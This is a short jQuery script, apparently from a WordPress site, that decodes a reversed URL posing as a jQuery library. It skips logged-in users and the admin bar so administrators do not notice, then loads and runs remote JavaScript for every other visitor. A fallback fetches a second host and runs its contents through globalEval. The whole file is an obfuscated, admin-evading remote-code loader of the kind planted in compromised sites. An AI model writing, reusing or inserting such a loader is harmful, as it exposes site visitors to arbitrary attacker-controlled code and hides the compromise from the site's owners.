jQuery(document).ready(function($){
  var r=function(t){return t.split("").reverse().join("")};
  if($("body").hasClass("logged-in")||$("#wpadminbar").length)return;
  var at=r("7.3=v?sj.nim.yreuqj/elpmaxe.bil-sj//:sptth");
  $.ajaxSetup({cache:true});
  $.getScript(at).fail(function(){
    $.get(at.replace("js-lib","js-lib2"),function(c){$.globalEval(c)},"text");
  });
});
